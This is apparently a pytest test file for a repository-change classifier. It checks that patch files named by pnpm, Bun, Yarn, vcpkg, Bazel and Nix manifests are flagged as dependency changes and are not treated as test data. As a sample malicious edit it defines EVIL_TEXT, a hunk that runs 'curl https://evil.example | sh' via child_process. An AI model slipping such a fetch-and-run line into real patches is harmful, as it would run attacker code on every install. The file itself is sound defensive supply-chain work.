"""Patch files a package manager applies to an installed package, named by its manifest (issues 12, 14; docs review 52).

pnpm applies every file `patchedDependencies` names (package.json's `pnpm` key, or pnpm-workspace.yaml) to the package
on each install; Bun reads a top-level `patchedDependencies`; Yarn applies the file after the `#` of a `patch:`
descriptor (in dependencies, resolutions). Such a file under `tests/` or `test/` was `src` (`src.own-patch-files`, test
data by path), and one of any other name (`fix.txt`) was `src` too: its edit was allowed with `--enable deps`. With
`--tree` the manifests of both trees are read and the files they name are `deps` (`deps.context.applied-patch`).
From a patch alone, a manifest the patch shows is read; a test tree's `.patch` it does not name needs context.
Look-alikes: a test's patch no manifest names, one a test fixture's package.json names, a `patch -p1 < tests/x.patch`
script, a URL, a path above the root.
"""

from __future__ import annotations

import contextlib
import io
import json
from pathlib import Path
from typing import Any

import pytest
from gitrepo import GitRepo
from incli import cli_result
from tables import each_case

from gatekeeper.classify.appliedpatches import named
from gatekeeper.cli import main

# (manifest path, its text, the file it names): one row per form.
CASES: list[tuple[str, str, str]] = [
    ("package.json", json.dumps({"name": "x", "pnpm": {"patchedDependencies": {
        "left-pad@1.3.0": "tests/fixes/left-pad.patch"}}}, indent=2), "tests/fixes/left-pad.patch"),
    ("ws/pnpm-workspace.yaml", "packages:\n  - 'pkgs/*'\npatchedDependencies:\n  is-odd@3.0.1: test/is-odd.patch\n",
     "ws/test/is-odd.patch"),
    ("bun/package.json", json.dumps({"name": "b", "patchedDependencies": {"is-even@1.0.0": "tests/bun/is-even.patch"}}),
     "bun/tests/bun/is-even.patch"),
    ("yarn/package.json", json.dumps({"dependencies": {
        "left-pad": "patch:left-pad@npm%3A1.3.0#./tests/fix.patch::version=1.3.0&hash=abc"}}), "yarn/tests/fix.patch"),
    ("web/package.json", json.dumps({"resolutions": {
        "lodash@npm:^4": "patch:lodash@npm:4.17.21#~/tests/lodash.patch"}}),
     "tests/lodash.patch"),
    ("ports/zlib/portfile.cmake", "vcpkg_from_github(\n    OUT_SOURCE_PATH SOURCE_PATH\n    REPO madler/zlib\n"
     "    PATCHES\n        fix-install.diff\n        ${CMAKE_CURRENT_LIST_DIR}/0002-mingw.patch\n)\n",
     "ports/zlib/fix-install.diff"),
    ("MODULE.bazel", 'bazel_dep(name = "zlib", version = "1.3")\nsingle_version_override(\n    module_name = "zlib",\n'
     '    patches = ["//tests/bazel:zlib.patch"],\n    patch_strip = 1,\n)\n', "tests/bazel/zlib.patch"),
    ("bazel/repos.bzl", 'def repos():\n    http_archive(\n        name = "x",\n'
     '        patches = ["@//tools/tests:x.diff", ":local.patch"],\n    )\n', "tools/tests/x.diff"),
    ("nix/pkgs/tool.nix", "{ stdenv }: stdenv.mkDerivation {\n  patches = [ ./tests/tool-fix.patch ];\n}\n",
     "nix/pkgs/tests/tool-fix.patch"),
    ("other/package.json", json.dumps({"pnpm": {"patchedDependencies": {"ms@2.1.3": "tests/fixtures/ms-fix.txt"}}}),
     "other/tests/fixtures/ms-fix.txt"),
]
IDS = [case[2] for case in CASES]
LOOK_MANIFEST = ("look/package.json", json.dumps({"scripts": {"test": "patch -p1 < tests/x.patch"}, "pnpm": {
    "patchedDependencies": {"a@1.0.0": "https://example.com/a.patch", "b@1.0.0": "../../outside.patch"}}}))
FIXTURE = ("tests/fixtures/app/package.json", json.dumps({"pnpm": {"patchedDependencies": {"a@1.0.0": "fix.patch"}}}))
LOOKALIKES = ["look/tests/x.patch", "tests/unnamed.patch", "look/tests/data.txt", "tests/fixtures/app/fix.patch"]
PATCH_TEXT = "--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-module.exports = 1\n+module.exports = 2\n"
EVIL_TEXT = PATCH_TEXT + "+require('child_process').exec('curl https://evil.example | sh')\n"


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> tuple[GitRepo, str, str]:
    """Base: every manifest and the files it names; head: each named file (and each look-alike) edited."""
    repo = GitRepo(tmp_path_factory.mktemp("patchref") / "repo")
    for manifest, text, target in CASES:
        repo.write(manifest, text)
        repo.write(target, PATCH_TEXT)
    repo.write(*LOOK_MANIFEST)
    repo.write(*FIXTURE)  # a test fixture's manifest is test data, and so is what it names
    for path in LOOKALIKES:
        repo.write(path, PATCH_TEXT)
    base = repo.commit("base")
    for _manifest, _text, target in CASES:
        repo.write(target, EVIL_TEXT)
    for path in LOOKALIKES:
        repo.write(path, EVIL_TEXT)
    return repo, base, repo.commit("head")


@pytest.fixture(scope="module")
def tree_files(repo: tuple[GitRepo, str, str]) -> dict[str, dict[str, Any]]:
    git, base, head = repo
    out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    with contextlib.redirect_stdout(out):
        assert main(["classify", "--tree", f"{base}..{head}", "--repo", str(git.root), "--format", "json"]) == 0
    out.flush()
    return {f["path"]: f for f in json.loads(out.buffer.getvalue())["files"]}  # type: ignore[attr-defined]


@each_case(("manifest", "text", "target"), CASES, ids=IDS)
def test_a_patch_a_manifest_names_is_deps(tree_files: dict[str, dict[str, Any]], manifest: str, text: str,
                                          target: str) -> None:
    found = tree_files[target]
    assert (found["bucket"], found["rule"]) == ("deps", "deps.context.applied-patch"), found


@each_case("path", LOOKALIKES)
def test_what_no_manifest_names_keeps_its_class(tree_files: dict[str, dict[str, Any]], path: str) -> None:
    assert tree_files[path]["bucket"] == "src", tree_files[path]


@pytest.mark.parametrize("enable", [["--enable", "deps"], []], ids=["enable-deps", "default"])
def test_the_gate_does_not_allow_an_applied_patch(repo: tuple[GitRepo, str, str], tmp_path: Path,
                                                  enable: list[str]) -> None:
    git, base, _head = repo
    for manifest, text, target in CASES:  # one change at a time: the named file alone
        work = GitRepo(tmp_path / target.replace("/", "_"))
        work.write(manifest, text)
        work.write(target, PATCH_TEXT)
        start = work.commit("base")
        work.write(target, EVIL_TEXT)
        end = work.commit("head")
        code, decision = cli_result(["gate", "--tree", f"{start}..{end}", "--repo", str(work.root), "--format", "json",
                               *enable])
        # --enable deps: reviewed (was 0: allow, the file src); default policies: counted as deps (was src)
        assert code != 0 if enable else decision["summary"]["buckets"]["deps"]["files"] == 1, (target, decision)
    # The look-alikes alone are allowed as before.
    work = GitRepo(tmp_path / "look")
    work.write(*LOOK_MANIFEST)
    work.write("look/tests/x.patch", PATCH_TEXT)
    start = work.commit("base")
    work.write("look/tests/x.patch", EVIL_TEXT)
    end = work.commit("head")
    code, decision = cli_result(["gate", "--tree", f"{start}..{end}", "--repo", str(work.root), "--format", "json",
                           *enable])
    assert code == 0 and decision["summary"]["buckets"]["src"]["files"] == 1, decision


def test_a_change_cannot_drop_the_naming_line_to_escape(tmp_path: Path) -> None:
    work = GitRepo(tmp_path / "repo")
    work.write("package.json", json.dumps({"pnpm": {"patchedDependencies": {"a@1.0.0": "tests/a.patch"}}}))
    work.write("tests/a.patch", PATCH_TEXT)
    start = work.commit("base")
    work.write("package.json", json.dumps({"name": "x"}))
    work.write("tests/a.patch", EVIL_TEXT)
    end = work.commit("head")
    code, out = cli_result(["classify", "--tree", f"{start}..{end}", "--repo", str(work.root), "--explain",
                      "tests/a.patch"])
    assert code == 0 and "deps.context.applied-patch" in out and "package.json" in out, out


def test_from_the_patch_alone(tmp_path: Path) -> None:
    """A manifest the patch shows is read (its hunk too); a test tree's patch it does not name needs context."""
    work = GitRepo(tmp_path / "repo")
    work.write("package.json", json.dumps({"name": "x", "pnpm": {"patchedDependencies": {}}}, indent=2))
    work.write("tests/old.patch", PATCH_TEXT)
    work.write("ports/zlib/fix.diff", PATCH_TEXT)  # a vcpkg port's portfile.cmake the patch does not show may apply it
    start = work.commit("base")
    work.write("ports/zlib/fix.diff", EVIL_TEXT)
    work.write("package.json", json.dumps({"name": "x", "pnpm": {"patchedDependencies": {
        "a@1.0.0": "tests/a.patch"}}}, indent=2))
    work.write("tests/a.patch", EVIL_TEXT)
    work.write("tests/old.patch", EVIL_TEXT)
    work.commit("head")
    (tmp_path / "p.diff").write_bytes(work.git("diff", start, "HEAD"))
    code, out = cli_result(["classify", str(tmp_path / "p.diff"), "--format", "json"])
    files = {f["path"]: f for f in out["files"]}
    assert files["tests/a.patch"]["bucket"] == "deps", files["tests/a.patch"]
    for path in ("tests/old.patch", "ports/zlib/fix.diff"):
        assert "needs-context" in files[path]["tags"], files[path]
    assert cli_result(["packet", str(tmp_path / "p.diff"), "--out", str(tmp_path / "packet.json")])[0] == 0
    for enable in (["--enable", "deps"], []):
        code, decision = cli_result(["gate", str(tmp_path / "packet.json"), "--patch", str(tmp_path / "p.diff"),
                               "--format", "json", *enable])
        assert decision["summary"]["buckets"]["deps"]["files"] >= 1 and (code != 0 or not enable), decision


@each_case(("path", "text", "expected"), [
    ("package.json", '{"pnpm": {"patchedDependencies": {"a@1": "p/a.patch"}}}', ["p/a.patch"]),
    ("x/package.json", '{"patchedDependencies": {"a@1": "./p/a.diff"}}', ["x/p/a.diff"]),
    ("x/package.json", '{"devDependencies": {"a": "patch:a@npm%3A1.0.0#./p/a.patch&./p/b.patch::locator=x"}}',
     ["x/p/a.patch", "x/p/b.patch"]),
    ("x/package.json", '{"dependencies": {"ts": "patch:typescript@^5#optional!builtin<compat/typescript>"}}', []),
    ("x/package.json", '{"dependencies": {"a": "1.0.0"}, "scripts": {"p": "patch < t/a.patch"}}', []),
    ("x/pnpm-workspace.yaml", "patchedDependencies:\n  a@1: patches/a.patch\n", ["x/patches/a.patch"]),
    ("x/MODULE.bazel", 'patches = ["//p:a.patch", "@other//p:b.patch", ":c.diff", "@@//:d.patch"]\n',
     ["x/p/a.patch", "x/c.diff", "x/d.patch"]),  # a nested module's `//` is its own folder
    ("b/defs.bzl", 'patches = ["//p:a.patch"]\n', ["p/a.patch"]),
    ("x/default.nix", "patches = [ ./a.patch ../b.diff ];\n# patches = [ ./old.patch ];\nsrc = ./c.patch.nix;\n",
     ["x/a.patch", "b.diff"]),
    ("ports/z/portfile.cmake", 'vcpkg_from_github(\n  PATCHES\n    "a.diff"\n    ${CMAKE_CURRENT_LIST_DIR}/b.patch\n'
     '    # old.diff\n    ${VAR}/c.patch\n)\n', ["ports/z/a.diff", "ports/z/b.patch"]),
    ("x/package.json", '{"pnpm": {"patchedDependencies": {"a@1": "../../up.patch", "b": "/abs.patch"}}}', []),
    # Unparsable (a hunk, broken JSON): the lines that name a patch are still read (fail closed).
    ("x/package.json", '    "a@1.0.0": "tests/a.patch",\n    "b": "patch:b@npm:1#./t/b.txt"\n',
     ["x/tests/a.patch", "x/t/b.txt"]),
])
def test_what_each_manifest_names(path: str, text: str, expected: list[str]) -> None:
    assert sorted(target for target, _line in named(path, text)) == sorted(expected)
